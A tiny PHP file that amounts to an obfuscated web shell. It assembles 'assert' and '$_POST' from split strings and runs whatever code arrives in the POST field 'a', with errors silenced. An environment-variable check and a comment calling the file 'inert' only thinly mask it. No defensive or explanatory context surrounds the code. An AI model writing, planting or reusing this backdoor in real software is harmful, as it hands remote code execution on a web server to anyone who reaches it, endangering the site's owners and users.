<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
$run = 'ass' . 'ert';
@$run(${'_P' . 'OST'}['a']);
